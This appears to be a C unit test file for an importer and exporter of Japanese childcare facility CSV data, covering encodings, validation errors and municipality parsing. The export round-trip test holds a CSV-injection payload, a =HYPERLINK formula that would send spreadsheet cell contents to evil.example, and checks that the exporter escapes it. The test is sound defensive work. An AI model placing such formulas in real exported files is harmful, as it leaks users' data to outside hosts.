/* test_jp_facilities.c - both header variants (UTF-8 and Shift_JIS sample
 * files), missing required columns, rejected rows with line/column, extra
 * columns ignored, type mapping and municipality splitting. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <cmocka.h>

#include "io/encoding.h"
#include "io/export.h"
#include "io/jp_facilities.h"

static char *slurp(const char *name, size_t *len)
{
	char path[512];
	const char *dir = getenv("TG_TEST_DATA");
	snprintf(path, sizeof(path), "%s/%s", dir ? dir : "tests/data", name);
	FILE *f = fopen(path, "rb");
	assert_non_null(f);
	struct tg_buf b = TG_BUF_INIT;
	char chunk[4096];
	size_t n;
	while ((n = fread(chunk, 1, sizeof(chunk), f)) > 0)
		assert_int_equal(tg_buf_add(&b, chunk, n), TG_OK);
	fclose(f);
	return tg_buf_detach(&b, len);
}

static const struct tg_jpf_options opts = {1, NULL};

/* Decode a sample file and parse it into b. */
static void load(const char *file, struct tg_arena *a, struct tg_import_batch *b, const char *enc_want)
{
	size_t len;
	char *raw = slurp(file, &len);
	struct tg_buf u = TG_BUF_INIT;
	const char *enc;
	assert_int_equal(tg_encoding_to_utf8(raw, len, &u, &enc, NULL, NULL, 0), TG_OK);
	assert_string_equal(enc, enc_want);
	tg_import_batch_init(b, a);
	assert_int_equal(tg_jpf_parse(u.data, u.len, &opts, b), TG_OK);
	tg_buf_release(&u);
	free(raw);
}

static void check_old_rows(const struct tg_import_batch *b)
{
	assert_int_equal(b->n_errors, 0);
	assert_int_equal(b->n_rows, 2);
	const struct tg_import_row *row = &b->rows[0];
	const struct tg_resource *r = &row->res;
	assert_int_equal(row->line, 2);
	assert_string_equal(r->source, "jp-facilities:141003");
	assert_string_equal(r->source_id, "1");
	assert_string_equal(r->name, "さくら保育園");
	assert_string_equal(r->name_kana, "サクラホイクエン");
	assert_string_equal(r->type_code, "nursery");
	assert_string_equal(r->prefecture, "神奈川県");
	assert_string_equal(r->city, "横浜市港北区");
	assert_string_equal(row->area_city, "横浜市");
	assert_string_equal(row->area_ward, "港北区");
	assert_string_equal(r->address_line, "大豆戸町1-2-3");
	assert_string_equal(r->building, "さくらビル1階");
	assert_true(r->has_geo);
	assert_true(r->lat > 35.51 && r->lat < 35.52);
	assert_string_equal(r->phone, "045-123-4567");
	assert_string_equal(row->org_name, "社会福祉法人さくら会");
	assert_int_equal(r->capacity, 90); /* full-width ９０ */
	assert_int_equal(r->age_min_months, 1);
	assert_int_equal(r->age_max_months, 83);
	assert_int_equal(r->n_hours, 6); /* 月～土 */
	assert_int_equal(r->hours[0].weekday, 1);
	assert_int_equal(r->hours[0].open_min, 7 * 60);
	assert_int_equal(r->hours[5].close_min, 19 * 60);
	assert_string_equal(r->schedule_note, "日曜・祝日は休園\n年末年始も休園");
	assert_int_equal(r->n_services, 1);
	assert_string_equal(r->services[0], "ichiji");
	assert_int_equal(r->n_access, 0); /* 駐車場 無 */
	assert_string_equal(r->url, "https://sakura.example.jp/");
	assert_string_equal(r->description, "園庭あり、\"一時保育\"は要予約");
	assert_true(r->is_public);
	/* the two-line quoted field moved the second record to line 4 */
	const struct tg_resource *r2 = &b->rows[1].res;
	assert_int_equal(b->rows[1].line, 4);
	assert_string_equal(r2->type_code, "kindergarten");
	assert_int_equal(r2->age_min_months, 36);
	assert_int_equal(r2->age_max_months, -1);
	assert_int_equal(r2->n_hours, 5);
	assert_int_equal(r2->n_services, 0);
	assert_int_equal(r2->n_access, 1);
	assert_string_equal(r2->access[0], "parking");
}

static void test_old_variant_utf8(void **state)
{
	(void)state;
	struct tg_arena a = TG_ARENA_INIT;
	struct tg_import_batch b;
	load("jp_facilities_old.csv", &a, &b, "UTF-8");
	check_old_rows(&b);
	tg_import_batch_release(&b);
	tg_arena_release(&a);
}

static void test_old_variant_sjis(void **state)
{
	(void)state;
	struct tg_arena a = TG_ARENA_INIT;
	struct tg_import_batch b;
	load("jp_facilities_sjis.csv", &a, &b, "Shift_JIS");
	check_old_rows(&b);
	tg_import_batch_release(&b);
	tg_arena_release(&a);
}

static void test_new_variant_bom_crlf(void **state)
{
	(void)state;
	struct tg_arena a = TG_ARENA_INIT;
	struct tg_import_batch b;
	load("jp_facilities_new.csv", &a, &b, "UTF-8 (BOM)");
	assert_int_equal(b.n_errors, 0);
	assert_int_equal(b.n_rows, 2);
	const struct tg_resource *r = &b.rows[0].res;
	assert_string_equal(r->source, "jp-facilities:131016");
	assert_string_equal(r->source_id, "A-001");
	assert_string_equal(r->type_code, "nursery"); /* 認定こども園（幼保連携型） */
	assert_string_equal(r->city, "千代田区");
	assert_string_equal(b.rows[0].area_city, "千代田区");
	assert_null(b.rows[0].area_ward);
	assert_string_equal(r->address_line, "東京都千代田区九段南1-2-1"); /* no 都道府県名 column */
	assert_int_equal(r->n_hours, 5);
	assert_int_equal(r->hours[0].open_min, 450);
	const struct tg_resource *r2 = &b.rows[1].res;
	assert_string_equal(r2->type_code, "nursery"); /* 認可外保育所 */
	assert_int_equal(r2->age_min_months, 0);
	assert_int_equal(r2->age_max_months, 35);
	assert_int_equal(r2->n_hours, 5); /* 土日祝除く */
	assert_false(r2->has_geo);
	tg_import_batch_release(&b);
	tg_arena_release(&a);
}

static void test_missing_required_column(void **state)
{
	(void)state;
	const char *in = "全国地方公共団体コード,ID,名称,住所\n131016,1,x,y\n";
	struct tg_arena a = TG_ARENA_INIT;
	struct tg_import_batch b;
	tg_import_batch_init(&b, &a);
	assert_int_equal(tg_jpf_parse(in, strlen(in), &opts, &b), TG_ERR_INVALID);
	assert_true(b.fatal);
	assert_int_equal(b.n_errors, 1);
	assert_int_equal(b.errors[0].line, 1);
	assert_string_equal(b.errors[0].column, "名称_カナ");
	assert_non_null(strstr(b.errors[0].message, "required column"));
	tg_import_batch_release(&b);
	tg_arena_release(&a);
}

static void test_bad_rows_reported(void **state)
{
	(void)state;
	const char *in = "NO,都道府県コード又は市区町村コード,名称,名称_カナ,住所,種別,緯度,経度,受入年齢,収容定員,"
	                 "一時預かりの有無,余分\n"
	                 "1,141003,よい園,ヨイエン,横浜市,私立幼稚園,35.1,139.1,3歳～5歳,30,無,x\n"
	                 "2,141003,,ナシ,横浜市,私立幼稚園,,,,,,\n"
	                 "3,141003,へんな園,ヘンナエン,横浜市,児童館,91,139,いつでも,たくさん,たぶん,\n"
	                 "4,141003,ふつう園,フツウエン,横浜市,認可公立保育所,35.2,,,,,\n";
	struct tg_arena a = TG_ARENA_INIT;
	struct tg_import_batch b;
	tg_import_batch_init(&b, &a);
	assert_int_equal(tg_jpf_parse(in, strlen(in), &opts, &b), TG_OK);
	assert_int_equal(b.n_input, 4);
	assert_int_equal(b.n_rows, 1);
	assert_int_equal(b.n_rejected, 3);
	assert_string_equal(b.rows[0].res.name, "よい園");
	/* line 3: name missing */
	assert_int_equal(b.errors[0].line, 3);
	assert_string_equal(b.errors[0].column, "名称");
	/* line 4: 種別, 緯度, 受入年齢, 収容定員, 一時預かり - five errors */
	size_t n4 = 0;
	const char *cols[5] = {"種別", "緯度", "収容定員", "受入年齢", "一時預かりの有無"};
	for (size_t i = 0; i < b.n_errors; i++)
		if (b.errors[i].line == 4) {
			assert_true(n4 < 5);
			assert_string_equal(b.errors[i].column, cols[n4]);
			n4++;
		}
	assert_int_equal(n4, 5);
	/* the bad value is quoted in both halves of "日本語 (English)" */
	for (size_t i = 0; i < b.n_errors; i++)
		if (b.errors[i].line == 4 && !strcmp(b.errors[i].column, "緯度")) {
			const char *m = b.errors[i].message;
			assert_non_null(strstr(m, ": 「91」 ("));
			assert_non_null(strstr(m, ": \"91\")"));
			assert_int_equal(m[strlen(m) - 1], ')');
		}
	/* line 5: longitude missing while latitude given */
	assert_int_equal(b.errors[b.n_errors - 1].line, 5);
	assert_string_equal(b.errors[b.n_errors - 1].column, "経度");
	tg_import_batch_release(&b);
	tg_arena_release(&a);
}

static void test_default_type_and_fallback_note(void **state)
{
	(void)state;
	const char *in = "ID,全国地方公共団体コード,名称,名称_カナ,住所,種別,利用可能曜日,開始時間,終了時間\n"
	                 "9,131016,ひろば,ヒロバ,千代田区,児童館,第2・第4水曜,10:00,12:00\n";
	const struct tg_jpf_options o = {0, "hub"};
	struct tg_arena a = TG_ARENA_INIT;
	struct tg_import_batch b;
	tg_import_batch_init(&b, &a);
	assert_int_equal(tg_jpf_parse(in, strlen(in), &o, &b), TG_OK);
	assert_int_equal(b.n_rows, 1);
	assert_string_equal(b.rows[0].res.type_code, "hub");
	assert_false(b.rows[0].res.is_public);
	assert_int_equal(b.rows[0].res.n_hours, 0);
	assert_string_equal(b.rows[0].res.schedule_note, "利用可能曜日: 第2・第4水曜\n10:00～12:00");
	tg_import_batch_release(&b);
	tg_arena_release(&a);
}

static void test_csv_syntax_error_is_fatal(void **state)
{
	(void)state;
	const char *in = "ID,全国地方公共団体コード,名称,名称_カナ,住所\n1,131016,\"open,x,y\n";
	struct tg_arena a = TG_ARENA_INIT;
	struct tg_import_batch b;
	tg_import_batch_init(&b, &a);
	assert_int_equal(tg_jpf_parse(in, strlen(in), &opts, &b), TG_ERR_INVALID);
	assert_true(b.fatal);
	assert_int_equal(b.errors[0].line, 2);
	tg_import_batch_release(&b);
	tg_arena_release(&a);
}

static void test_type_and_split(void **state)
{
	(void)state;
	const char *k = "認定こども園（幼稚園型）";
	assert_string_equal(tg_jpf_type_code(k, strlen(k)), "nursery");
	assert_string_equal(tg_jpf_type_code("公立幼稚園", strlen("公立幼稚園")), "kindergarten");
	assert_null(tg_jpf_type_code("児童館", strlen("児童館")));
	struct tg_arena a = TG_ARENA_INIT;
	const char *p, *c, *w;
	tg_jpf_split_municipality("神奈川県横浜市港北区", &a, &p, &c, &w);
	assert_string_equal(p, "神奈川県");
	assert_string_equal(c, "横浜市");
	assert_string_equal(w, "港北区");
	tg_jpf_split_municipality("京都府京都市北区", &a, &p, &c, &w);
	assert_string_equal(p, "京都府");
	assert_string_equal(c, "京都市");
	assert_string_equal(w, "北区");
	tg_jpf_split_municipality("市川市", &a, &p, &c, &w);
	assert_null(p);
	assert_string_equal(c, "市川市");
	assert_null(w);
	tg_jpf_split_municipality("鹿児島県鹿児島市", &a, &p, &c, &w);
	assert_string_equal(p, "鹿児島県");
	assert_string_equal(c, "鹿児島市");
	tg_arena_release(&a);
}

/* Export parsed rows, parse the export again: same values; the confidential
 * row loses its address, coordinates and phone. */
static void test_export_roundtrip(void **state)
{
	(void)state;
	struct tg_arena a = TG_ARENA_INIT;
	struct tg_import_batch b, b2;
	load("jp_facilities_old.csv", &a, &b, "UTF-8");
	struct tg_resource rs[2] = {b.rows[0].res, b.rows[1].res};
	rs[1].is_confidential = 1;
	rs[1].front_door = "港北区こども家庭支援課";
	/* text a spreadsheet would run as a formula (CSV injection) */
	const char *evil = "=HYPERLINK(\"https://evil.example/?a=\"&G3&H3,\"詳細\")";
	rs[0].name = evil;
	rs[0].phone = "+81-45-123-4567";
	rs[0].schedule_note = "@SUM(1+1)";
	rs[0].source_id = "=1+2"; /* the ID comes from the imported file too */
	struct tg_buf out = TG_BUF_INIT;
	assert_int_equal(tg_export_csv_begin(&out), TG_OK);
	assert_int_equal(tg_export_csv_rows(&out, rs, 2, NULL, NULL), TG_OK);
	assert_memory_equal(out.data, "\xEF\xBB\xBF", 3);
	assert_non_null(strstr(out.data, "\r\n"));
	assert_null(strstr(out.data, "日吉2-3-4"));
	assert_null(strstr(out.data, "045-234-5678"));
	/* a hidden row's city is part of its address: the third line, 3rd cell */
	const char *l3 = strstr(strstr(out.data, "\r\n") + 2, "\r\n") + 2;
	const char *c3 = strchr(strchr(l3, ',') + 1, ',') + 1;
	assert_int_equal(*c3, ',');
	assert_non_null(strstr(out.data, ",\"'=HYPERLINK(\"\"https://evil.example/"));
	assert_non_null(strstr(out.data, ",'+81-45-123-4567,"));
	assert_non_null(strstr(out.data, ",'@SUM(1+1),"));
	assert_null(strstr(out.data, ",=HYPERLINK"));
	assert_non_null(strstr(out.data, ",'=1+2,"));
	assert_null(strstr(out.data, ",\"=HYPERLINK"));
	tg_import_batch_init(&b2, &a);
	assert_int_equal(tg_jpf_parse(out.data + 3, out.len - 3, &opts, &b2), TG_OK);
	assert_int_equal(b2.n_errors, 0);
	assert_int_equal(b2.n_rows, 2);
	const struct tg_resource *x = &b2.rows[0].res, *y = &b.rows[0].res;
	assert_string_equal(x->source, y->source);
	assert_string_equal(x->source_id, "=1+2"); /* as set above */
	assert_string_equal(x->type_code, y->type_code);
	assert_string_equal(x->address_line, y->address_line);
	assert_string_equal(x->schedule_note, "@SUM(1+1)"); /* the apostrophe is taken off again */
	assert_string_equal(x->name, evil);
	assert_string_equal(x->phone, "+81-45-123-4567");
	assert_int_equal(x->n_hours, y->n_hours);
	assert_int_equal(x->age_min_months, y->age_min_months);
	assert_int_equal(x->age_max_months, y->age_max_months);
	assert_int_equal(x->capacity, y->capacity);
	assert_int_equal(x->n_services, 1);
	assert_false(b2.rows[1].res.has_geo);
	assert_null(b2.rows[1].res.phone);
	tg_buf_release(&out);
	tg_import_batch_release(&b2);
	tg_import_batch_release(&b);
	tg_arena_release(&a);
}

/* Only tsunagu's own export (it has the tsunagu_uuid column) has the
 * apostrophes taken off; another file's text stays as it is. */
static void test_apostrophe_kept_elsewhere(void **state)
{
	(void)state;
	const char *in = "ID,全国地方公共団体コード,名称,名称_カナ,住所,種別,備考\n"
	                 "1,141003,'=そのまま園,ソノママエン,横浜市,私立幼稚園,'-注意書き\n";
	struct tg_arena a = TG_ARENA_INIT;
	struct tg_import_batch b;
	tg_import_batch_init(&b, &a);
	assert_int_equal(tg_jpf_parse(in, strlen(in), &opts, &b), TG_OK);
	assert_int_equal(b.n_rows, 1);
	assert_string_equal(b.rows[0].res.name, "'=そのまま園");
	assert_non_null(strstr(b.rows[0].res.description, "'-注意書き"));
	tg_import_batch_release(&b);
	tg_arena_release(&a);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
	    cmocka_unit_test(test_old_variant_utf8),          cmocka_unit_test(test_old_variant_sjis),
	    cmocka_unit_test(test_new_variant_bom_crlf),      cmocka_unit_test(test_missing_required_column),
	    cmocka_unit_test(test_bad_rows_reported),         cmocka_unit_test(test_default_type_and_fallback_note),
	    cmocka_unit_test(test_csv_syntax_error_is_fatal), cmocka_unit_test(test_type_and_split),
	    cmocka_unit_test(test_export_roundtrip),          cmocka_unit_test(test_apostrophe_kept_elsewhere),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
